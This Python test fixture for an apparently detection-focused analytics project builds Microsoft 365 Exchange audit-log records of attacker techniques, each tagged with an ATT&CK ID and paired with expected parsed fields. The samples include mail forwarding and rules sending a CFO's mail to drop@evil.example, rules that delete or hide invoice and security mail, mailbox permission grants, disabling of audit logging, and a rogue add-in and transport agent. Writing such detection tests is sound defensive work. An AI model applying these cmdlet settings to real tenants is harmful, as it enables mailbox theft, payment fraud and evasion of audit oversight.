"""Operations of Exchange in Microsoft 365's unified audit log: what is done in mailboxes, and cmdlets."""

from typing import Any

from tests.uba.sources.operations import ADDRESS, TIME, USER, Operation, line_of
from tests.uba.sources.operations_m365 import READ, UPDATE, ual
from uba import activities as a
from uba.events import (
    API_ACTIVITY,
    APPLICATION_LIFECYCLE,
    EMAIL_ACTIVITY,
    ENTITY_MANAGEMENT,
    EVENT_LOG,
    WEB_RESOURCES,
)


def mailbox(operation: str, techniques: str, meaning: tuple[int, int], **fields: Any) -> Operation:
    """One act in a mailbox."""
    fields = {"ClientIPAddress": ADDRESS, "LogonType": 2, "MailboxOwnerUPN": "cfo@fabrikam.example"} | fields
    expected = fields.pop("expected", {})
    common = {"actor_user_name": USER, "resource_uid": "cfo@fabrikam.example", "src_ip": ADDRESS}
    return Operation(techniques, operation, "m365_ual", ual(operation, 2, **fields), meaning, common | expected)


def cmdlet(
    operation: str, techniques: str, meaning: tuple[int, int], expected: dict[str, Any], **parameters: str
) -> Operation:
    """One cmdlet of Exchange."""
    listed = [{"Name": name, "Value": value} for name, value in parameters.items()]
    record = ual(operation, 1, Parameters=listed, ObjectId=parameters.get("Identity", ""), ClientIP=f"{ADDRESS}:4431")
    common = {"actor_user_name": USER, "src_ip": ADDRESS, "event_code": operation}
    return Operation(techniques, f"{operation} {' '.join(parameters)}", "m365_ual", record, meaning, common | expected)


FOLDER = {
    "Item": {
        "ParentFolder": {
            "Name": "Inbox",
            "Path": "\\Inbox",
            "MemberUpn": "Everyone",
            "MemberSid": "S-1-1-0",
            "MemberRights": "ReadAny, FolderVisible",
        }
    }
}
GRANTED = {"user_name": "everyone", "access_list": ("ReadAny", "FolderVisible"), "entity_name": "\\Inbox"}
ITEM = {"Item": {"Id": "i1", "Subject": "Plan", "ParentFolder": {"Path": "\\Inbox"}}}
ITEMS = {"AffectedItems": [{"Id": "1", "Subject": "x"}, {"Id": "2", "Subject": "y"}]}
DELETES = {"Name": ".", "SubjectOrBodyContainsWords": "invoice;payment", "DeleteMessage": "True"}
HIDES = {"Name": "..", "FromAddressContainsWords": "security", "MoveToFolder": "RSS Feeds", "MarkAsRead": "True"}

OPERATIONS = [
    *(
        mailbox(name, "T1098.002 T1534", UPDATE, **FOLDER, expected=GRANTED)
        for name in (
            "ModifyFolderPermissions",
            "AddFolderPermissions",
            "UpdateFolderPermissions",
            "RemoveFolderPermissions",
        )
    ),
    cmdlet(
        "Add-MailboxPermission",
        "T1098.002",
        UPDATE,
        {"user_name": "eve@fabrikam.example", "access_list": ("FullAccess",), "resource_uid": "cfo"},
        Identity="cfo",
        User="eve@fabrikam.example",
        AccessRights="FullAccess",
    ),
    cmdlet(
        "Add-RecipientPermission",
        "T1098.002",
        UPDATE,
        {"user_name": "eve", "access_list": ("SendAs",), "resource_uid": "cfo"},
        Identity="cfo",
        Trustee="eve",
        AccessRights="SendAs",
    ),
    *(
        cmdlet(
            name,
            "T1098.002",
            UPDATE,
            {"user_name": "default", "access_list": ("Reviewer",)},
            Identity="cfo:\\Inbox",
            User="Default",
            AccessRights="Reviewer",
        )
        for name in ("Add-MailboxFolderPermission", "Set-MailboxFolderPermission")
    ),
    cmdlet(
        "Set-Mailbox",
        "T1098.002",
        UPDATE,
        {"user_name": "eve", "access_list": ("SendOnBehalf",), "resource_uid": "cfo"},
        Identity="cfo",
        GrantSendOnBehalfTo="eve",
    ),
    *(
        mailbox(
            name,
            "T1098.002 T1534 T1598",
            (EMAIL_ACTIVITY, a.MAIL_SEND),
            Item={"Id": "i1", "Subject": "Plan", "InternetMessageId": "<1@x>"},
            expected={"email_subject": "Plan", "resource_uid": "cfo@fabrikam.example"},
        )
        for name in ("Send", "SendAs", "SendOnBehalf")
    ),
    cmdlet(
        "Set-OrganizationConfig",
        "T1491.001",
        UPDATE,
        {"query_text": "MailTipsAllTipsEnabled=True"},
        MailTipsAllTipsEnabled="True",
    ),
    mailbox(
        "MailItemsAccessed",
        "T1114 T1550",
        READ,
        OperationCount=7,
        ClientAppId="app-1",
        OperationProperties=[{"Name": "MailAccessType", "Value": "Bind"}],
        Folders=[{"Path": "\\Inbox", "FolderItems": [{"InternetMessageId": "<1@x>"}]}],
        expected={"count": 7, "actor_app_uid": "app-1", "resource_type": "mailbox"},
    ),
    mailbox(
        "SearchQueryInitiatedExchange",
        "T1114",
        (WEB_RESOURCES, a.WEB_SEARCH),
        QueryText="iban",
        expected={"query_text": "iban"},
    ),
    cmdlet(
        "New-MailboxExportRequest",
        "T1114 T1213",
        (WEB_RESOURCES, a.WEB_EXPORT),
        {"resource_uid": "cfo"},
        Mailbox="cfo",
        FilePath="\\\\x\\y",
    ),
    cmdlet(
        "New-ComplianceSearch",
        "T1114 T1213",
        (ENTITY_MANAGEMENT, a.ENTITY_CREATE),
        {"entity_name": "x", "query_text": "Name=x; ExchangeLocation=All"},
        Name="x",
        ExchangeLocation="All",
    ),
    cmdlet(
        "New-ComplianceSearchAction",
        "T1114 T1213",
        (WEB_RESOURCES, a.WEB_EXPORT),
        {"query_text": "SearchName=x; Export=True"},
        SearchName="x",
        Export="True",
    ),
    mailbox("FolderBind", "T1114 T1137 T1137.003", READ, **ITEM),
    mailbox("MessageBind", "T1114", READ, **ITEM),
    cmdlet(
        "Set-Mailbox",
        "T1114 T1114.003",
        UPDATE,
        {"email_to": ("drop@evil.example",), "resource_uid": "cfo"},
        Identity="cfo",
        ForwardingSmtpAddress="smtp:drop@evil.example",
        DeliverToMailboxAndForward="True",
    ),
    cmdlet(
        "Set-Mailbox",
        "T1114.003",
        UPDATE,
        {"email_to": ("drop@evil.example",)},
        Identity="cfo",
        ForwardingAddress="drop@evil.example",
    ),
    *(
        cmdlet(
            name,
            "T1114.003 T1137.005",
            meaning,
            {"email_to": ("drop@evil.example",), "entity_name": "x", "entity_type": "rule"},
            Name="x",
            **{action: "drop@evil.example"},
        )
        for name, meaning, action in (
            ("New-InboxRule", (ENTITY_MANAGEMENT, a.ENTITY_CREATE), "ForwardTo"),
            ("Set-InboxRule", UPDATE, "RedirectTo"),
            ("New-InboxRule", (ENTITY_MANAGEMENT, a.ENTITY_CREATE), "ForwardAsAttachmentTo"),
        )
    ),
    *(
        cmdlet(
            name,
            "T1114.003",
            meaning,
            {"email_to": ("drop@evil.example",), "entity_name": "x"},
            Name="x",
            **{action: "drop@evil.example"},
        )
        for name, meaning, action in (
            ("New-TransportRule", (ENTITY_MANAGEMENT, a.ENTITY_CREATE), "BlindCopyTo"),
            ("Set-TransportRule", UPDATE, "RedirectMessageTo"),
        )
    ),
    cmdlet(
        "Set-RemoteDomain",
        "T1114.003",
        UPDATE,
        {"query_text": "Identity=Default; AutoForwardEnabled=True"},
        Identity="Default",
        AutoForwardEnabled="True",
    ),
    *(
        mailbox(name, "T1564 T1564.008", meaning, **ITEMS, expected={"count": 2})
        for name, meaning in (
            ("HardDelete", (WEB_RESOURCES, a.WEB_DELETE)),
            ("SoftDelete", (WEB_RESOURCES, a.WEB_DELETE)),
            ("MoveToDeletedItems", (WEB_RESOURCES, a.WEB_UPDATE)),
        )
    ),
    cmdlet(
        "Set-Mailbox",
        "T1564",
        UPDATE,
        {"query_text": "Identity=cfo; HiddenFromAddressListsEnabled=True"},
        Identity="cfo",
        HiddenFromAddressListsEnabled="True",
    ),
    *(
        cmdlet(name, "T1564.008", meaning, {"entity_name": rule["Name"], "query_text": text}, **rule)
        for name, meaning, rule, text in (
            (
                "New-InboxRule",
                (ENTITY_MANAGEMENT, a.ENTITY_CREATE),
                DELETES,
                "Name=.; SubjectOrBodyContainsWords=invoice;payment; DeleteMessage=True",
            ),
            (
                "Set-InboxRule",
                UPDATE,
                HIDES,
                "Name=..; FromAddressContainsWords=security; MoveToFolder=RSS Feeds; MarkAsRead=True",
            ),
            ("Enable-InboxRule", (ENTITY_MANAGEMENT, a.ENTITY_ENABLE), {"Name": "."}, "Name=."),
            (
                "New-TransportRule",
                (ENTITY_MANAGEMENT, a.ENTITY_CREATE),
                {"Name": "x", "DeleteMessage": "True"},
                "Name=x; DeleteMessage=True",
            ),
        )
    ),
    mailbox(
        "UpdateInboxRules",
        "T1114.003 T1564 T1564.008 T1137 T1137.003 T1137.005",
        UPDATE,
        ClientInfoString="Client=MSExchangeRPC",
        OperationProperties=[
            {"Name": "RuleOperation", "Value": "AddMailboxRule"},
            {"Name": "RuleName", "Value": "."},
            {
                "Name": "RuleActions",
                "Value": '[{"ActionType":"StartApplication"},{"ActionType":"Forward","Recipients":["x@evil.example"]}]',
            },
        ],
        expected={"entity_name": ".", "email_to": ("x@evil.example",), "user_agent": "Client=MSExchangeRPC"},
    ),
    cmdlet(
        "Set-AdminAuditLogConfig",
        "T1562.002",
        (EVENT_LOG, a.EVENT_LOG_DISABLE),
        {},
        UnifiedAuditLogIngestionEnabled="False",
    ),
    cmdlet(
        "Set-MailboxAuditBypassAssociation",
        "T1562.002 T1564",
        UPDATE,
        {"query_text": "Identity=eve; AuditBypassEnabled=True"},
        Identity="eve",
        AuditBypassEnabled="True",
    ),
    *(
        mailbox(
            name,
            "T1137 T1137.003",
            meaning,
            Item={"Id": "1", "ItemClass": "IPM.Note.Evil", "Subject": "x", "ParentFolder": {"Path": "\\Inbox"}},
            expected={"email_headers": ("X-Message-Class: IPM.Note.Evil",)},
        )
        for name, meaning in (("Create", (WEB_RESOURCES, a.WEB_CREATE)), ("Update", (WEB_RESOURCES, a.WEB_UPDATE)))
    ),
    mailbox(
        "Update",
        "T1137.004",
        (WEB_RESOURCES, a.WEB_UPDATE),
        ModifiedProperties=["WebViewInfo"],
        Item={"Id": "1", "ParentFolder": {"Path": "\\Inbox"}},
    ),
    cmdlet("New-App", "T1137", (ENTITY_MANAGEMENT, a.ENTITY_CREATE), {}, Url="https://evil.example/addin.xml"),
    *(
        cmdlet(
            name,
            "T1505.002",
            (APPLICATION_LIFECYCLE, activity),
            {"app_name": "Relay Agent"},
            Name="Relay Agent",
            AssemblyPath="C:\\x.dll",
            TransportAgentFactory="x",
        )
        for name, activity in (
            ("Install-TransportAgent", a.APP_INSTALL),
            ("Enable-TransportAgent", a.APP_ENABLE),
            ("Set-TransportAgent", a.APP_UPDATE),
            ("Uninstall-TransportAgent", a.APP_REMOVE),
        )
    ),
    cmdlet("Get-RoleGroupMember", "T1069", (API_ACTIVITY, a.API_READ), {}, Identity="Organization Management"),
    Operation(
        "T1505.002",
        "Install-TransportAgent (on premises)",
        "m365_ual",
        line_of(
            {
                "RunDate": f"{TIME}Z",
                "Caller": USER,
                "CmdletName": "Install-TransportAgent",
                "CmdletParameters": [
                    {"Name": "Name", "Value": "Relay"},
                    {"Name": "AssemblyPath", "Value": "C:\\x.dll"},
                ],
                "Succeeded": True,
                "ObjectModified": "Relay",
                "OriginatingServer": "EX1",
            }
        ),
        (APPLICATION_LIFECYCLE, a.APP_INSTALL),
        {"app_name": "Relay", "actor_user_name": USER, "query_text": "Name=Relay; AssemblyPath=C:\\x.dll"},
    ),
]
